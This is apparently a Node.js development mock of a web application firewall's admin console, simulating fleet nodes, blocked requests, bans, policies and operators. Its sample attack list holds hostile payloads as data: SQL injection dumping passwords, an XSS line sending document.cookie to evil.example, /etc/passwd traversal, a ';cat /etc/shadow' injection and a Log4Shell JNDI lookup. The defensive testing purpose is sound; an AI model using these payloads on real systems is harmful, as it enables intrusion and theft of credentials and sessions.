// A node for developing the console: the admin API and its stream with invented traffic, and `dist/` as a node would
// serve it, under the same Content-Security-Policy. A development tool; nothing of it is in the product.
//
//   node dev/mock.mjs [--port 8901] [--scenario fleet|quiet|degraded|flood|observe|volume] [--open]
//
// `--open` asks for no session. Otherwise the printed link signs in, as often as wanted.

import { createServer } from 'node:http';
import { readFile } from 'node:fs/promises';
import { extname, join, normalize } from 'node:path';
import { fileURLToPath } from 'node:url';
import { argv } from 'node:process';
import { FleetWorld } from './mock/fleet.mjs';
import { Incidents } from './mock/incidents.mjs';
import { People } from './mock/people.mjs';
import { PolicyWorld } from './mock/policy.mjs';
import { actors, traffic } from './mock/traffic.mjs';
import { fill } from './mock/volume.mjs';

const DIST = join(fileURLToPath(new URL('..', import.meta.url)), 'dist');
const ALPHABET = '0123456789ABCDEFGHJKMNPQRSTVWXYZ';
const CSP =
  "default-src 'none'; script-src 'self'; style-src 'self'; img-src 'self'; connect-src 'self'; base-uri 'none'; form-action 'none'; " +
  "frame-ancestors 'none'; require-trusted-types-for 'script'; trusted-types svelte-trusted-html";
const TYPES = { '.html': 'text/html; charset=utf-8', '.js': 'text/javascript', '.css': 'text/css', '.svg': 'image/svg+xml' };

const NODES = [
  { site: 'fra', node: 'fra-1', me: true },
  { site: 'iad', node: 'iad-1', me: false },
  { site: 'syd', node: 'syd-1', me: false },
];
const RULES = {
  942100: { message: 'SQL Injection Attack Detected via libinjection', file: 'REQUEST-942-APPLICATION-ATTACK-SQLI.conf', line: 45, t: ['utf8toUnicode', 'urlDecodeUni', 'removeNulls'], tag: 'attack-sqli' },
  942190: { message: 'Detects MSSQL code execution and information gathering attempts', file: 'REQUEST-942-APPLICATION-ATTACK-SQLI.conf', line: 178, t: ['urlDecodeUni', 'removeCommentsChar'], tag: 'attack-sqli' },
  941100: { message: 'XSS Attack Detected via libinjection', file: 'REQUEST-941-APPLICATION-ATTACK-XSS.conf', line: 62, t: ['utf8toUnicode', 'urlDecodeUni', 'htmlEntityDecode', 'jsDecode'], tag: 'attack-xss' },
  941110: { message: 'XSS Filter - Category 1: Script Tag Vector', file: 'REQUEST-941-APPLICATION-ATTACK-XSS.conf', line: 93, t: ['utf8toUnicode', 'urlDecodeUni', 'htmlEntityDecode'], tag: 'attack-xss' },
  930120: { message: 'OS File Access Attempt', file: 'REQUEST-930-APPLICATION-ATTACK-LFI.conf', line: 101, t: ['utf8toUnicode', 'urlDecodeUni', 'normalizePathWin'], tag: 'attack-lfi' },
  932160: { message: 'Remote Command Execution: Unix Shell Code Found', file: 'REQUEST-932-APPLICATION-ATTACK-RCE.conf', line: 522, t: ['cmdLine', 'normalizePath'], tag: 'attack-rce' },
  944150: { message: 'Potential Remote Command Execution: Log4j / Log4shell', file: 'REQUEST-944-APPLICATION-ATTACK-JAVA.conf', line: 290, t: ['urlDecodeUni', 'jsDecode', 'htmlEntityDecode'], tag: 'attack-rce' },
};
const ATTACKS = [
  { method: 'GET', target: "/products?id=1%27%20UNION%20SELECT%20name%2Cpassword%20FROM%20users--", rules: [942100, 942190], variable: 'ARGS:id', fragment: "1' UNION SELECT name,password FROM users--" },
  { method: 'GET', target: '/search?q=%3Cscript%3Efetch(%27//evil.example/%27%2Bdocument.cookie)%3C/script%3E', rules: [941100, 941110], variable: 'ARGS:q', fragment: "<script>fetch('//evil.example/'+document.cookie)</script>" },
  { method: 'GET', target: '/static/..%2f..%2f..%2fetc/passwd', rules: [930120], variable: 'REQUEST_FILENAME', fragment: 'etc/passwd' },
  { method: 'POST', target: '/reviews', rules: [941110], variable: 'ARGS:text', fragment: '<script src=//x.example/a.js></script>' },
  { method: 'POST', target: '/cart/update', rules: [932160], variable: 'ARGS:note', fragment: ';cat /etc/shadow' },
  { method: 'GET', target: '/', rules: [944150], variable: 'REQUEST_HEADERS:User-Agent', fragment: '${jndi:ldap://203.0.113.66/a}' },
  { method: 'GET', target: '/search?q=%3Cimg%20src%3Dx%20onerror%3Dwindow.hacked%3D1%3E', rules: [941100], variable: 'ARGS:q', fragment: '<img src=x onerror=window.hacked=1>' },
];
const RECORDS_MAX = 12_000;
const ATTACKERS = ['203.0.113.9', '203.0.113.66', '198.51.100.23', '198.51.100.140', '192.0.2.77', '2001:db8:51:4::a1'];
const AGENTS = ['Mozilla/5.0 (X11; Linux x86_64; rv:140.0) Gecko/20100101 Firefox/140.0', 'sqlmap/1.9.4#stable (https://sqlmap.org)', 'curl/8.14.1', 'python-requests/2.32.4'];

/** Starts the mock and resolves to its addresses and a way to end it. */
export async function startMock({ port = 0, scenario = 'fleet', open = false, seed = 7 } = {}) {
  const world = new World(scenario, seed);
  const session = 'mock-session-00000000';
  const server = createServer((request, reply) => {
    route(world, { session, open }, request, reply).catch((error) => {
      if (!reply.headersSent) problem(reply, 500, 'mock', String(error));
    });
  });
  await new Promise((resolve) => server.listen(port, '127.0.0.1', resolve));
  const base = `http://127.0.0.1:${server.address().port}`;
  world.start();
  return {
    base,
    login: `${base}/login?ticket=mock`,
    protected: `${base}/_mock/shop`,
    world,
    stop: () => {
      world.stop();
      server.closeAllConnections();
      return new Promise((resolve) => server.close(resolve));
    },
  };
}

/** What the invented node knows. */
class World {
  constructor(scenario, seed) {
    this.scenario = scenario;
    this.random = mulberry32(seed);
    this.startedAt = Date.now() - 9_312_000;
    this.listeners = new Set();
    this.records = new Map();
    this.decisions = new Map();
    this.strikes = new Map();
    this.held = new Map();
    this.counters = { requests: 1_204_311, denied: 3_127, observed: 0, challenged: 212, throttled: 97, malformed: 12, upstream_errors: 0 };
    /** Since when traffic is counted. The tests change it. */
    this.countedSince = null;
    this.version = 1;
    this.load = 40;
    this.people = new People();
    this.fleet = new FleetWorld(Date.now());
    this.policy = new PolicyWorld(Date.now());
    this.policy.hasFile = scenario !== 'quiet';
    if (scenario !== 'quiet') this.past();
    this.incidents = new Incidents(this, Date.now());
    if (scenario === 'volume') fill(this, Date.now());
  }

  selfTest() {
    const at_ms = Date.now() - ((Date.now() - this.startedAt) % 60_000);
    const names = ['SQL injection in a parameter', 'cross-site script in a parameter', 'path traversal', 'request smuggling', 'shell command in a form'];
    const cases = this.status().plan.apps.flatMap((app) => names.map((name, i) => {
      const ok = !(this.pierced && app.name === 'wiki' && i === 1);
      return { app: app.name, listener: '0.0.0.0:80', name, expected: 'refused', got: ok ? 'refused' : 'passed with 200', ok, outcome: ok ? 'passed' : 'failed', detail: ok ? '' : 'no rule matched' };
    }));
    const ok = cases.every((one) => one.ok);
    return { state: ok ? 'ok' : 'failing', every_ms: 60_000, last: { at_ms, took_ms: 41, ok, cases }, failing_since_ms: ok ? null : at_ms };
  }

  fixes() {
    if (this.scenario === 'quiet') return [];
    return [
      { id: 'no-limit', weight: 80, title: 'wiki has no rate limit on its login', why: 'Passwords can be tried there as fast as the app answers. The shop has such a limit.', command: 'phalanx check -c phalanx.toml', page: '#/policy' },
      { id: 'exclusion-ends', weight: 55, title: 'An exclusion of wiki ends in 9 days', why: 'Afterwards rule 941110 refuses what editors write. Renew it, or let it end.', command: 'phalanx waf exclusions', page: '#/exclusions' },
      { id: 'one-owner', weight: 40, title: 'Only one owner can get in', why: 'If ann loses her passkey, the console can be had back on the machine alone.', command: 'phalanx operator add NAME --role owner', page: '#/operators' },
    ];
  }

  /** History from before the page was opened. */
  past() {
    const now = Date.now();
    for (let i = 45; i > 0; i--) this.attack({ at: now - i * 21_000 - this.random() * 9_000, silent: true });
    this.decide({ ip: '203.0.113.9', forMs: 20 * 60_000, at: now - 512_000, node: NODES[1], reason: '3 attacks in 60 s: SQL injection, cross-site scripting', silent: true, evidence: [...this.records.keys()][12] });
    this.decide({ prefix: '198.51.100.0/24', forMs: 86_400_000, at: now - 7_000_000, node: NODES[0], role: 'operator', reason: 'scanner farm, ticket 4411', silent: true });
    this.decide({ ip: '192.0.2.200', kind: 'allow', forMs: 7 * 86_400_000, at: now - 86_000_000, node: NODES[0], role: 'operator', reason: 'our uptime monitor', silent: true });
  }

  start() {
    const every = (ms, work) => this.timers.push(setInterval(work, ms));
    this.timers = [];
    if (this.scenario !== 'quiet') {
      const pause = this.scenario === 'flood' ? 20 : 900;
      const next = () => {
        this.attack({});
        this.timer = setTimeout(next, pause * (0.3 + this.random() * 2));
      };
      this.timer = setTimeout(next, pause);
      every(200, () => {
        this.load = Math.max(8, Math.min(90, this.load + (this.random() - 0.5) * 9));
        this.counters.requests += Math.round((this.load / 5) * (0.7 + this.random() * 0.6));
      });
    }
    every(1000, () => this.say('counters', this.counters));
    every(2000, () => this.say('nodes', this.members()));
  }

  stop() {
    clearTimeout(this.timer);
    for (const timer of this.timers) clearInterval(timer);
    for (const reply of this.listeners) reply.end();
  }

  say(name, data) {
    for (const reply of this.listeners) reply.write(`event: ${name}\ndata: ${JSON.stringify(data)}\n\n`);
  }

  live() {
    const now = Date.now();
    for (const [id, d] of this.decisions) if (d.expires_at_ms <= now) this.decisions.delete(id);
    return [...this.decisions.values()];
  }

  members() {
    const now = Date.now();
    const list = this.nodes ?? (this.scenario === 'quiet' ? NODES.slice(0, 1) : NODES);
    return list.map((n, i) => {
      const silent = this.scenario === 'degraded' && n.node === 'syd-1';
      return {
        ...n,
        version: '0.1.0',
        lag_ms: n.me ? 0 : [0, 44, 138][i % 3] + Math.floor(this.random() * 9),
        last_seen_ms: silent ? this.startedAt + 9_200_000 : now - Math.floor(this.random() * 900),
        decisions: this.live().length,
        held: n.me ? this.held.size : 0,
        policy: alone(this) ? null : { version: silent ? 3 : this.policy.rows[0].version, hash: this.policy.rows[silent ? 1 : 0].hash.slice(0, 12) },
        selftest: silent ? 'unknown' : 'ok',
        ...(this.fleet.orders.get(`${n.site}/${n.node}`) ?? { duty: 'serving', order_reason: '' }),
        online: !silent,
      };
    });
  }

  status() {
    const alone = this.scenario === 'quiet';
    return {
      node: 'fra-1',
      site: 'fra',
      version: '0.1.0',
      ready: true,
      not_ready: null,
      started_at_ms: this.startedAt,
      now_ms: Date.now(),
      plan: {
        version: 4,
        apps: [
          { name: 'shop', upstream: 'http://127.0.0.1:3000', mode: this.scenario === 'observe' ? 'observe' : 'block', rules: 'baseline', paranoia: 1, rule_count: 58 },
          ...(alone ? [] : [{ name: 'wiki', upstream: 'http://127.0.0.1:3001', mode: 'block', rules: 'baseline', paranoia: 1, rule_count: 58 }]),
        ].filter((app) => this.people.me().apps?.includes(app.name) ?? true),
      },
      fleet: {
        kind: alone ? 'local' : 'nats',
        connected: true,
        degraded: this.scenario === 'degraded' ? ['Decisions from syd arrive late: its link to the fleet is down. It enforces what it knows.'] : [],
        members: this.members(),
      },
      process: { id: this.fleet.process, confinement: [] },
      counters: this.counters,
      decisions_live: this.live().length,
    };
  }

  /** One attack; a client's third within the window becomes a ban. */
  attack({ at = Date.now(), silent = false, attack, client, target, agent }) {
    const kind = attack ?? this.pick(ATTACKS);
    const from = client ?? this.pick(ATTACKERS);
    const node = this.pick(this.scenario === 'quiet' ? NODES.slice(0, 1) : NODES);
    const standing = this.live().find((d) => d.actor.value === actorValue(from) && d.kind === 'ban');
    const malformed = !attack && this.random() < 0.06;
    const id = requestId(at, node, this.random);
    const observe = this.scenario === 'observe';
    const rules = standing || malformed ? [] : kind.rules;
    const reason = standing
      ? { kind: 'decision', decision: standing }
      : malformed
        ? { kind: 'framing', fault: 'length_and_transfer_encoding' }
        : { kind: 'rule', rule: rules.length > 1 ? 949110 : rules[0] };
    const action = observe && !malformed ? 'observe' : 'deny';
    const status = malformed ? 400 : observe ? 200 : 403;
    const signals = rules.map((rule) => signal(rule, kind));
    const score = signals.length * 5;
    if (rules.length > 1) signals.push(threshold(score));
    const access = {
      id, at_ms: Math.round(at), app: 'shop', client: from, peer: '127.0.0.1', method: kind.method, host: 'shop.example', target: target ?? kind.target,
      protocol: 'HTTP/1.1', user_agent: agent ?? this.pick(AGENTS), referer: '', status, request_bytes: kind.method === 'POST' ? 214 : 0, response_bytes: 318,
      duration_us: 90 + Math.floor(this.random() * 400), upstream_us: 0, verdict: { action, reason, status, score }, plan_version: 4, view_revision: this.version,
    };
    const top = signals[0] && {
      rule: rules[0], message: signals[0].message, variable: kind.variable, fragment: kind.fragment, file: signals[0].rule.file, line: signals[0].rule.line,
    };
    const row = { id, at_ms: access.at_ms, app: 'shop', client: from, method: access.method, host: access.host, target: access.target, status, action, reason, rule_ids: rules, top: top ?? null, score, site: node.site, node: node.node };
    const full = { access, signals, faults: malformed ? ['length_and_transfer_encoding'] : [], strikes: [], decision: standing ?? null, led_to: [], proposals: [], plan_version: 4, site: node.site, node: node.node, summary: [`${kind.method} shop.example${access.target} from ${from} was refused with status ${status} by node ${node.site}/${node.node}, app shop.`, ...signals.map((s) => `Rule ${s.rule.id} "${s.message}" matched ${kind.variable}: \`${kind.fragment}\`; score +5.`)] };
    this.records.set(id, { row, full });
    if (this.records.size > RECORDS_MAX) this.records.delete(this.records.keys().next().value);
    this.counters.requests += 1;
    if (malformed) this.counters.malformed += 1;
    else if (action === 'deny') this.counters.denied += 1;
    if (!silent) this.say('request', row);
    if (signals.length > 0 && action === 'deny') this.strike(from, id, at, node, full, silent);
    return id;
  }

  strike(client, id, at, node, full, silent) {
    const recent = (this.strikes.get(client) ?? []).filter((t) => at - t < 60_000);
    recent.push(at);
    this.strikes.set(client, recent);
    const actor = { kind: 'ip', value: actorValue(client) };
    // Operator addresses are never barred.
    if (client === '127.0.0.1') return;
    full.strikes.push({ request: id, at_ms: Math.round(at), actor, count: recent.length });
    if (recent.length < 3 || silent) return;
    this.strikes.delete(client);
    const reason = `3 attacks in 60 s, the last: ${full.signals[0].message}`;
    full.led_to.push(this.decide({ ip: client, forMs: this.scenario === 'flood' ? 8_000 : 90_000, at, node, reason, evidence: id }));
  }

  decide({ ip, prefix, kind = 'ban', forMs, at = Date.now(), node, role = 'node', reason, evidence = null, silent = false }) {
    const decision = {
      id: requestId(at, node, this.random), actor: ip ? { kind: 'ip', value: actorValue(ip) } : { kind: 'prefix', value: prefix }, kind,
      author: { site: node.site, node: node.node, role }, reason, evidence, confidence_percent: 99,
      created_at_ms: Math.round(at), expires_at_ms: Math.round(at + forMs), version: ++this.version,
    };
    this.decisions.set(decision.id, decision);
    if (!silent) this.say('decision', decision);
    return decision;
  }

  /** Something waits for an operator. */
  hold({ ip, prefix, blocklist, what = 'decision', node = NODES[1], role = 'node', reason, clients, of, addresses = null, forMs = 300_000 }) {
    const actor = ip ? { kind: 'ip', value: actorValue(ip) } : prefix ? { kind: 'prefix', value: prefix } : null;
    const text = `${what === 'range' ? 'proposed' : 'held'}: would refuse ${clients} of ${of} clients served well in the last ten minutes`;
    const thing = {
      id: requestId(Date.now(), node, this.random), what, actor, blocklist: blocklist ?? null, addresses, kind: 'ban', author: { site: node.site, node: node.node, role },
      reason, share: { clients, of }, text, since_ms: what === 'range' ? null : Date.now(), expires_at_ms: what === 'range' ? null : Date.now() + forMs,
    };
    this.held.set(thing.id, thing);
    this.say('held', this.held.size);
    return thing;
  }

  settle(id, approves, reason) {
    const thing = this.held.get(id);
    if (!thing) return null;
    this.held.delete(id);
    this.say('held', this.held.size);
    if (thing.blocklist) return { blocklist: thing.blocklist };
    if (!approves) return { withdrawal: { id, actor: thing.actor, reason } };
    const whom = thing.what === 'range' ? { prefix: thing.actor.value } : { ip: thing.actor.value };
    return { decision: this.decide({ ...whom, forMs: 300_000, node: NODES[0], role: 'operator', reason: reason || `approved: ${thing.reason}` }) };
  }

  withdraw(id, reason) {
    const decision = this.decisions.get(id);
    if (!decision) return null;
    this.decisions.delete(id);
    const order = { id: requestId(Date.now(), NODES[0], this.random), actor: decision.actor, author: { site: 'fra', node: 'fra-1', role: 'operator' }, up_to_version: decision.version, reason, created_at_ms: Date.now(), expires_at_ms: decision.expires_at_ms };
    this.say('withdrawal', order);
    return order;
  }

  pick(list) {
    return list[Math.floor(this.random() * list.length)];
  }
}

const alone = (world) => world.scenario === 'quiet';

function signal(id, attack) {
  const rule = RULES[id];
  return {
    rule: { id, file: `rules/${rule.file}`, line: rule.line, class: { class: 'detection', confidence: 'high' }, severity: 'critical', tags: ['OWASP_CRS', rule.tag, 'paranoia-level/1'] },
    phase: 2, message: rule.message, data: `Matched Data found within ${attack.variable}`,
    matches: [{ variable: attack.variable, fragment: attack.fragment, value_hash: 7, transformations: rule.t }], score: 5,
  };
}

/** The Core Rule Set's last word: the rule that compares the score with the limit. */
function threshold(score) {
  return {
    rule: { id: 949110, file: 'rules/REQUEST-949-BLOCKING-EVALUATION.conf', line: 222, class: { class: 'policy' }, severity: null, tags: ['anomaly-evaluation'] },
    phase: 2, message: `Inbound Anomaly Score Exceeded (Total Score: ${score})`, data: '',
    matches: [{ variable: 'TX:BLOCKING_INBOUND_ANOMALY_SCORE', fragment: '', value_hash: 1, transformations: [] }], score: 0,
  };
}

async function route(world, access, request, reply) {
  const url = new URL(request.url, 'http://mock');
  const path = url.pathname;
  if (path.startsWith('/_mock/shop')) return shop(world, url, request, reply);
  if (path === '/login') {
    reply.writeHead(303, { location: '/', 'set-cookie': `phalanx_session=${access.session}; HttpOnly; SameSite=Strict; Path=/` });
    return reply.end();
  }
  if (!path.startsWith('/api/')) return asset(path, reply);
  if (path === '/api/v1/login/oidc') return json(reply, 200, []);
  if (!access.open && !(request.headers.cookie ?? '').includes(`phalanx_session=${access.session}`)) {
    return problem(reply, 401, 'unauthorized', 'sign in first');
  }
  return api(world, url, request, reply);
}

async function api(world, url, request, reply) {
  const [, , , area, id, sub] = url.pathname.split('/');
  const call = `${request.method} ${area}${id ? '/:id' : ''}`;
  const { people } = world;
  const limited = people.me().apps !== null;
  if (limited && !['me', 'status', 'events', 'decisions', 'sessions', 'logout'].includes(area)) {
    return problem(reply, 403, 'apps', 'this is about more than the apps that this account is limited to');
  }
  const pages = await pagesApi(world, url, request, [area, id, sub]);
  if (pages?.problem) return problem(reply, pages.status, pages.code, pages.detail, pages.diagnostics);
  // As a node: a thousand rows without a limit.
  if (Array.isArray(pages?.body)) return json(reply, pages.status ?? 200, pages.body.slice(0, Number(url.searchParams.get('limit') ?? 1_000)));
  if (pages) return json(reply, pages.status ?? 200, pages.body);
  switch (call) {
    case 'GET status':
      return json(reply, 200, world.status());
    case 'GET nodes':
      return json(reply, 200, world.members());
    case 'GET decisions':
      return json(reply, 200, world.live().slice(0, Number(url.searchParams.get('limit') ?? 100)));
    case 'POST decisions': {
      const body = JSON.parse(await text(request));
      if ((body.ip ?? '').startsWith('127.')) return problem(reply, 422, 'operator_network', '127.0.0.1 is in an operator network and is never barred');
      if (body.prefix === '198.18.0.0/15' && !body.force) {
        const message = '198.18.0.0/15: nothing is ordered yet, because it would refuse 37 of 412 clients served well in the last ten minutes here; if that is meant, order it with --force';
        return problem(reply, 409, 'would_refuse_many', message);
      }
      return json(reply, 201, world.decide({ ...body, forMs: body.for_ms, node: NODES[0], role: 'operator' }));
    }
    case 'DELETE decisions/:id': {
      if (world.refuseUndo) return problem(reply, 503, 'ledger_full', 'the ledger cannot be written: no space left on device');
      const order = world.withdraw(id, url.searchParams.get('reason') ?? '');
      return order ? json(reply, 200, order) : problem(reply, 404, 'not_found', 'no such decision');
    }
    case 'GET held':
      return json(reply, 200, { held: [...world.held.values()], total: world.held.size });
    case 'POST held/:id':
    case 'DELETE held/:id': {
      if (world.refuseUndo) return problem(reply, 503, 'ledger_full', 'the ledger cannot be written: no space left on device');
      const settled = world.settle(id, request.method === 'POST', url.searchParams.get('reason') ?? '');
      return settled ? json(reply, 200, settled) : problem(reply, 404, 'not_found', 'nothing of that id is held');
    }
    case 'GET events': {
      const rows = events(world, url.searchParams);
      const more = rows.length === Number(url.searchParams.get('limit') ?? 50);
      if (more) reply.setHeader('link', `</api/v1/events?before=${rows.at(-1).id}>; rel="next"`);
      return json(reply, 200, rows);
    }
    case 'GET events/:id': {
      const record = world.records.get(id);
      return record ? json(reply, 200, record.full) : problem(reply, 404, 'not_found', 'no record of this request');
    }
    case 'POST logout':
      reply.writeHead(204, { 'set-cookie': 'phalanx_session=; Max-Age=0; Path=/' });
      return reply.end();
    case 'GET stream':
      reply.writeHead(200, { 'content-type': 'text/event-stream', 'cache-control': 'no-store' });
      reply.write('retry: 1000\n\n');
      world.listeners.add(reply);
      request.on('close', () => world.listeners.delete(reply));
      return undefined;
    default:
      return problem(reply, 404, 'not_found', 'no such call');
  }
}

/** What the pages beside the first ask for; undefined for the rest. */
async function pagesApi(world, url, request, [area, id, sub]) {
  const { people, policy, incidents } = world;
  const plain = request.method === 'PUT' ? await text(request) : null;
  const body = ['POST', 'PATCH'].includes(request.method) && !['decisions', 'logout'].includes(area) ? JSON.parse((await text(request)) || 'null') : null;
  const no = (status, code, detail) => ({ problem: true, status, code, detail });
  const fresh = () => people.stale && no(403, 'fresh_factor', 'this needs a second factor of the last five minutes; prove yourself again');
  const ruled = (made) => (made.code ? no(made.status, made.code, made.detail) : { body: made });
  const nothing = no(404, 'not_found', 'there is no such thing');
  const named = ['fleet', 'policy'].includes(area) && id ? `${area}/${id}` : area;
  const ordered = world.fleet.answer(`${request.method} ${named}`, { id, sub, body: plain ?? body, query: url.searchParams, fresh, now: Date.now() });
  if (ordered) return ordered;
  switch (`${request.method} ${area}${id ? `/${['me', 'policy'].includes(area) ? id : ':id'}` : ''}${sub ? `/${area === 'policy' || area === 'me' ? ':id' : sub}` : ''}`) {
    case 'GET selftest':
    case 'POST selftest':
      return { body: world.selfTest() };
    case 'GET receivers':
      return { body: [{ name: 'chat', kind: 'slack' }, { name: 'ops', kind: 'mail' }] };
    case 'POST receivers/:id/test':
      return { body: id === 'chat' ? { ok: true, error: null } : { ok: false, error: 'mail.example.org:465 does not answer' } };
    case 'GET fixes':
      return { body: world.fixes() };
    case 'GET traffic':
      return { body: traffic(url.searchParams, world.scenario, world.countedSince) };
    case 'GET traffic/:id':
      return { body: actors(url.searchParams, Date.now(), world.scenario, world.countedSince) };
    case 'GET fleet/:id':
      return { body: { requests: events(world, url.searchParams).map(told), answered: NODES.map(({ site, node }) => `${site}/${node}`), silent: [] } };
    case 'GET events/:id/suggestion':
      return { body: suggestion(id) };
    case 'GET incidents':
      return { body: incidents.list() };
    case 'GET incidents/:id': {
      const found = incidents.show(id);
      return found ? { body: found } : no(404, 'not_found', `this node knows no incident ${id}; it remembers 256 closed ones`);
    }
    case 'POST incidents/:id/close':
      return incidents.close(id) ? { status: 200, body: null } : nothing;
    case 'POST incidents/:id/undo':
      return { body: incidents.undo(id) };
    case 'POST incidents/:id/answer':
      return incidents.answer(id, body.step, body.yes) ? { body: null } : nothing;
    case 'GET policy':
      return { body: policy.status(world.members()) };
    case 'GET policy/versions':
      return { body: policy.hasFile ? policy.rows : [] };
    case 'GET policy/versions/:id': {
      if (!policy.hasFile) return no(409, 'no_file', "this node's policy is of its command line: there is no file of it to change; write one, and `phalanx policy push FILE` gives it to all nodes");
      const found = policy.version(sub);
      return found ? { body: found } : nothing;
    }
    case 'POST policy/check':
      return { body: policy.check(body) };
    case 'POST policy/diff':
      return { body: policy.diff(body) };
    case 'POST policy/replay':
      return { body: policy.replay(Date.now()) };
    case 'POST policy/promote':
      policy.trial = null;
      return { body: policy.status(world.members()) };
    case 'GET policy/changes':
      return { body: policy.changes.map(({ body: _, ...change }) => change) };
    case 'POST policy/changes':
      return { status: 201, body: policy.propose(body, people.asks, requestId(Date.now(), NODES[0], world.random)) };
    case 'POST policy/changes/:id':
      return ruled(policy.rule(sub, url.pathname.endsWith('/approve'), people.asks));
    case 'GET exclusions':
      return { body: policy.exclusions(Date.now()) };
    case 'POST exclusions':
      if (body.shown !== suggestion(body.request).shown) return no(409, 'shown_otherwise', 'the suggestion, or the policy that it is added to, is another by now than the one that was shown: look at it again');
      return { status: 201, body: policy.propose({ entry: 'policy.toml', files: policy.files, reason: body.reason }, people.asks, requestId(Date.now(), NODES[0], world.random)) };
    case 'GET audit':
      return { body: people.audit(url.searchParams) };
    case 'GET me':
      return { body: people.me() };
    case 'POST me/prove':
      if (body.code !== '123456') return no(403, 'not_proved', 'that code or passkey is not right');
      people.stale = false;
      return { body: people.me() };
    case 'POST me/tokens':
      people.operators[0].tokens.push({ name: body.name, role: body.role, apps: body.apps, created_at_ms: Date.now(), expires_at_ms: Date.now() + body.for_ms });
      return { status: 201, body: { name: body.name, token: 'phx_' + '5c0de'.repeat(8), expires_at_ms: Date.now() + body.for_ms } };
    case 'GET sessions':
      return { body: people.sessions };
    case 'DELETE sessions/:id':
      people.sessions = people.sessions.filter((one) => one.id !== id);
      return { body: null };
    case 'GET operators':
      return people.me().role === 'owner' ? { body: people.operators } : no(403, 'role', 'this needs the role owner');
    case 'POST operators':
      return fresh() || { status: 201, body: people.add(body) };
    case 'PATCH operators/:id': {
      const found = people.operators.find((one) => one.name === id);
      return fresh() || (found ? { body: Object.assign(found, body) } : nothing);
    }
    case 'DELETE operators/:id':
      if (!people.stale) people.operators = people.operators.filter((one) => one.name !== id);
      return fresh() || { body: null };
    case 'POST operators/:id/reset':
      return fresh() || { body: people.invited(id) };
    default:
      return undefined;
  }
}

/** What a node tells others of a request that it served. */
function told({ client, target, host: _, reason, top, ...row }) {
  return { ...row, network: client.includes(':') ? `${client.split(':').slice(0, 3).join(':')}::/48` : `${client.split('.').slice(0, 3).join('.')}.0/24`, path: target.split('?')[0], reason: top?.message ?? reason.kind, led_to: [] };
}

function suggestion(id) {
  return {
    id, app: 'shop', exclusions: [{ rules: [941110], target: 'ARGS:text', path: '/reviews', methods: ['POST'] }], passes: true, warnings: ['rule 941110 is rarely wrong: look twice'],
    toml: '[[apps.exclusions]]\nrules = [941110]\ntarget = "ARGS:text"\npath = "/reviews"\nmethods = ["POST"]\nowner = "operator"\nreason = "request was refused by mistake"\nuntil = 2026-12-27\n',
    lets_pass: { others: 312, own: 4, passed: 2, examples: [{ id: '01M805KMW691AEKWXGYP21X9P1' }] },
    recording: { others: 9_412, own: 3, passed: 0, examples: [], complete: true },
    shown: '5c0de'.repeat(12) + '5c0d',
  };
}

function events(world, query) {
  const limit = Number(query.get('limit') ?? 50);
  const own = world.people.me().apps;
  const wants = (row) =>
    (!own || own.includes(row.app)) &&
    (!query.get('app') || row.app === query.get('app')) &&
    (!query.get('status') || String(row.status) === query.get('status')) &&
    (!query.get('method') || row.method === query.get('method')) &&
    (!query.get('q') || `${row.host}${row.target}`.includes(query.get('q'))) &&
    (!query.get('since_ms') || row.at_ms >= Number(query.get('since_ms'))) &&
    (!query.get('until_ms') || row.at_ms < Number(query.get('until_ms'))) &&
    (!query.get('client') || row.client === query.get('client')) &&
    (!query.get('action') || row.action === query.get('action')) &&
    (!query.get('rule') || row.rule_ids.map(String).includes(query.get('rule'))) &&
    (!query.get('before') || row.id < query.get('before'));
  return [...world.records.values()].map((record) => record.row).filter(wants).sort((a, b) => b.at_ms - a.at_ms).slice(0, limit);
}

/** The "protected app": whatever is sent here is an attack, refused and recorded with the target as it came. */
function shop(world, url, request, reply) {
  const target = request.url.slice('/_mock/shop'.length);
  const fragment = [...url.searchParams.values()][0] ?? decodeURIComponent(url.pathname);
  const attack = { method: request.method, target, rules: [941110], variable: `ARGS:${[...url.searchParams.keys()][0] ?? 'q'}`, fragment };
  const id = world.attack({ attack, client: '127.0.0.1', target, agent: request.headers['user-agent'] ?? '' });
  reply.writeHead(403, { 'content-type': 'text/plain', 'x-request-id': id });
  reply.end(`Refused. Request id ${id}\n`);
}

async function asset(path, reply) {
  // As on a node: what looks like no file is a place within the console.
  const name = extname(path) === '' ? '/index.html' : normalize(path);
  try {
    const body = await readFile(join(DIST, name));
    reply.writeHead(200, {
      'content-type': TYPES[extname(name)] ?? 'application/octet-stream', 'content-security-policy': CSP,
      'x-content-type-options': 'nosniff', 'referrer-policy': 'no-referrer', 'cross-origin-opener-policy': 'same-origin',
    });
    reply.end(body);
  } catch {
    reply.writeHead(404, { 'content-type': 'text/plain' });
    reply.end(name === '/index.html' ? 'Build the console first: npm run build\n' : 'not found\n');
  }
}

/** As a node says what went wrong (RFC 9457). */
function problem(reply, status, code, detail, diagnostics = []) {
  reply.writeHead(status, { 'content-type': 'application/problem+json', 'cache-control': 'no-store' });
  reply.end(JSON.stringify({ type: 'about:blank', title: code, status, detail, code, diagnostics }));
}

function json(reply, status, body) {
  reply.writeHead(status, { 'content-type': 'application/json', 'cache-control': 'no-store' });
  reply.end(JSON.stringify(body));
}

async function text(request) {
  let body = '';
  for await (const chunk of request) body += chunk;
  return body;
}

const actorValue = (ip) => (ip.includes(':') ? `${ip.split(':').slice(0, 4).join(':')}::` : ip);

/** An id of the product's form: ten characters of time, sixteen of node and chance. */
function requestId(at, node, random) {
  let time = Math.round(at);
  let head = '';
  for (let i = 0; i < 10; i++) {
    head = ALPHABET[time % 32] + head;
    time = Math.floor(time / 32);
  }
  const tag = ALPHABET[node.site.charCodeAt(0) % 32] + ALPHABET[node.site.charCodeAt(1) % 32];
  return head + tag + Array.from({ length: 14 }, () => ALPHABET[Math.floor(random() * 32)]).join('');
}

function mulberry32(seed) {
  let state = seed;
  return () => {
    state = (state + 0x6d2b79f5) | 0;
    let t = Math.imul(state ^ (state >>> 15), 1 | state);
    t = (t + Math.imul(t ^ (t >>> 7), 61 | t)) ^ t;
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}

if (argv[1] === fileURLToPath(import.meta.url)) {
  const option = (name) => (argv.includes(name) ? argv[argv.indexOf(name) + 1] : undefined);
  const mock = await startMock({ port: Number(option('--port') ?? 8901), scenario: option('--scenario') ?? 'fleet', open: argv.includes('--open') });
  console.log(`console  ${mock.login}\nprotected  ${mock.protected}/?q=%3Cscript%3E`);
}
